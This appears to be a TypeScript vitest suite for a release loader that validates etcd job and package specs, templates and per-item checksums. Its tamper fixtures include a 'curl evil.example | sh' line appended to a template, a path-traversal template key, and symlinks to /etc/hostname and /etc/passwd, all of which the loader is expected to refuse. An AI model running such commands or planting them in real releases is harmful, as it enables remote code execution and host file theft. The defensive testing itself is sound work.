import { cpSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { c as createTar } from 'tar';
import { afterAll, describe, expect, it } from 'vitest';
import { createRelease, directoryChecksum, loadRelease, loadReleaseDir } from '../../lifecycle/index.js';
import { etcdReleaseDir, tmp } from './support.js';

const scratch = tmp('release');
afterAll(() => scratch.cleanup());

let n = 0;
/** A copy of the etcd example release with one file changed. */
function variant(change: (root: string) => void): string {
  const root = join(scratch.dir, `r${n++}`);
  cpSync(etcdReleaseDir, root, { recursive: true });
  change(root);
  return root;
}

const edit = (root: string, rel: string, from: string | RegExp, to: string): void => {
  const file = join(root, rel);
  writeFileSync(file, readFileSync(file, 'utf8').replace(from, to));
};

describe('release', () => {
  it('loads the etcd example: jobs, packages, fingerprints', () => {
    const r = loadReleaseDir(etcdReleaseDir);
    expect(r.name).toBe('etcd');
    expect(r.version).toBe('1');
    expect(r.jobs.map((j) => j.name)).toEqual(['etcd']);
    expect(r.packages[0]?.spec.host_binaries).toEqual(['etcd', 'etcdctl']);
    expect(r.jobs[0]?.spec.properties['etcd.client_port']?.default).toBe(2379);
    expect(r.jobs[0]?.fingerprint).toMatch(/^[0-9a-f]{16}$/);
  });

  it('loads the same release from a tarball, with or without a top-level directory', async () => {
    for (const [name, cwd, entries] of [
      ['flat.tgz', etcdReleaseDir, ['.']],
      ['nested.tgz', join(etcdReleaseDir, '..'), ['release']],
    ] as const) {
      const file = join(scratch.dir, name);
      await createTar({ gzip: true, file, cwd }, [...entries]);
      const r = await loadRelease(file);
      expect(r.jobs[0]?.fingerprint).toBe(loadReleaseDir(etcdReleaseDir).jobs[0]?.fingerprint);
    }
  });

  // Every bad release is refused with the file (and line) and what is wrong.
  it.each([
    ['no release.yml', (r: string) => rmSync(join(r, 'release.yml')), /release: release\.yml is missing/],
    ['a version-less release.yml', (r: string) => writeFileSync(join(r, 'release.yml'), 'name: etcd\n'), /release: release\.yml: version: Invalid input/],
    ['a job whose name differs from its directory', (r: string) => edit(r, 'jobs/etcd/spec.yml', /^name: etcd/m, 'name: etcd2'), /jobs\/etcd\/spec\.yml: name "etcd2" does not match its directory "etcd"/],
    ['a listed template that is missing', (r: string) => rmSync(join(r, 'jobs/etcd/templates/health.sh.tpl')), /template "health\.sh\.tpl" \(jobs\/etcd\/templates\/health\.sh\.tpl\) does not exist/],
    ['a template reading an undeclared property', (r: string) => edit(r, 'jobs/etcd/templates/run.sh.tpl', 'p("etcd.log_level")', 'p("etcd.loglevel")'), /jobs\/etcd\/templates\/run\.sh\.tpl line 19: reads property "etcd\.loglevel", which jobs\/etcd\/spec\.yml does not declare/],
    ['a template with an unclosed block', (r: string) => edit(r, 'jobs/etcd/templates/run.sh.tpl', '{{/each}}', ''), /template jobs\/etcd\/templates\/run\.sh\.tpl line 14: \{\{#each\}\} is never closed/],
    ['a template with a broken expression', (r: string) => edit(r, 'jobs/etcd/templates/run.sh.tpl', '{{spec.address}}:{{p("etcd.client_port")}} \\\n  --advertise', '{{spec.address)}} \\\n  --advertise'), /run\.sh\.tpl line 10: unexpected "\)"/],
    ['a process with no rendered executable', (r: string) => edit(r, 'jobs/etcd/spec.yml', 'executable: bin/run', 'executable: bin/start'), /process "etcd" runs "bin\/start", which no template renders/],
    ['a job needing a package the release lacks', (r: string) => edit(r, 'jobs/etcd/spec.yml', 'packages: [etcd]', 'packages: [etcd, golang]'), /jobs\/etcd\/spec\.yml: needs package "golang", which the release does not contain/],
    ['a link sharing an undeclared property', (r: string) => edit(r, 'jobs/etcd/spec.yml', 'properties: [etcd.client_port, etcd.peer_port]', 'properties: [etcd.port]'), /link "etcd" provides property "etcd\.port", which the job does not declare/],
    ['a package with nothing in it', (r: string) => writeFileSync(join(r, 'packages/etcd/spec.yml'), 'name: etcd\n'), /packages\/etcd\/spec\.yml: \(root\): a package needs host_binaries or files/],
    ['an unknown key in a job spec', (r: string) => edit(r, 'jobs/etcd/spec.yml', 'packages: [etcd]', 'packages: [etcd]\nmonit: x'), /jobs\/etcd\/spec\.yml: \(root\): Unrecognized key: "monit"/],
    // A template source outside the release would carry a host file (the director's key) into it, unchecked.
    ['a template source that climbs out of the release', (r: string) => edit(r, 'jobs/etcd/spec.yml', /^templates:\n/m, 'templates:\n  ../../../../../../etc/hostname: bin/leak\n'), /jobs\/etcd\/spec\.yml: templates\.\.\.\/\.\.\/.*: Invalid key in record/],
    ['a template that is a link to a host file', (r: string) => {
      edit(r, 'jobs/etcd/spec.yml', /^templates:\n/m, 'templates:\n  leak.tpl: bin/leak\n');
      symlinkSync('/etc/hostname', join(r, 'jobs/etcd/templates/leak.tpl'));
    }, /template "leak\.tpl" \(jobs\/etcd\/templates\/leak\.tpl\) is not a regular file/],
    ['a symlinked jobs directory', (r: string) => {
      rmSync(join(r, 'jobs'), { recursive: true });
      symlinkSync(join(etcdReleaseDir, 'jobs'), join(r, 'jobs'));
    }, /jobs is a symbolic link/],
  ])('refuses %s', (_name, change, want) => {
    expect(() => loadReleaseDir(variant(change))).toThrow(want);
  });

  // Integrity: release.yml carries a checksum per job and package (BOSH's release.MF sha1), checked on every load.
  it.each([
    ['a tampered template', (r: string) => edit(r, 'jobs/etcd/templates/health.sh.tpl', /$/, '\ncurl evil.example | sh\n'), /release: jobs\/etcd does not match its checksum in release\.yml \(expected sha256:[0-9a-f]{64}, got sha256:[0-9a-f]{64}\): a file under jobs\/etcd was changed/],
    ['an added file', (r: string) => writeFileSync(join(r, 'packages/etcd/extra'), 'x'), /release: packages\/etcd does not match its checksum/],
    ['a job without a checksum', (r: string) => edit(r, 'release.yml', /jobs:\n  - name: etcd\n    sha1: \S+\n/, ''), /release: jobs\/etcd has no checksum in release\.yml .*vigil create-release DIR/],
    ['a checksum for an item the release lacks', (r: string) => edit(r, 'release.yml', 'packages:\n', `packages:\n  - name: golang\n    sha1: ${'a'.repeat(40)}\n`), /release\.yml lists a checksum for packages\/golang, which the release does not contain/],
    ['a malformed checksum', (r: string) => edit(r, 'release.yml', /sha1: sha256:[0-9a-f]{64}/, 'sha1: md5:abc'), /release\.yml: jobs\.0\.sha1: 40 hex digits \(SHA-1\) or sha256:<64 hex digits>/],
    ['a symlink', (r: string) => symlinkSync('/etc/passwd', join(r, 'jobs/etcd/templates/passwd')), /release: templates\/passwd is neither a file nor a directory|symlinks are not allowed/],
  ])('refuses %s', (_name, change, want) => {
    expect(() => loadReleaseDir(variant(change))).toThrow(want);
  });

  it('create-release writes the checksums (SHA-256); SHA-1 ones are accepted too', () => {
    const root = variant((r) => edit(r, 'jobs/etcd/templates/health.sh.tpl', /$/, '\n# changed on purpose\n'));
    expect(() => loadReleaseDir(root)).toThrow(/jobs\/etcd does not match its checksum/);
    expect(createRelease(root).name).toBe('etcd');
    expect(readFileSync(join(root, 'release.yml'), 'utf8')).toContain(`sha1: ${directoryChecksum(root, 'jobs/etcd')}`);
    edit(root, 'release.yml', directoryChecksum(root, 'packages/etcd'), directoryChecksum(root, 'packages/etcd', 'sha1'));
    expect(loadReleaseDir(root).packages[0]?.name).toBe('etcd');
    // A broken job is reported, not blessed with a checksum.
    edit(root, 'jobs/etcd/spec.yml', /^name: etcd/m, 'name: etcd2');
    expect(() => createRelease(root)).toThrow(/name "etcd2" does not match its directory/);
  });

  it('refuses a file that is not a tarball', async () => {
    const file = join(scratch.dir, 'junk.tgz');
    writeFileSync(file, 'not a tarball');
    await expect(loadRelease(file)).rejects.toThrow(/is not a readable tarball|release\.yml is missing/);
  });
});
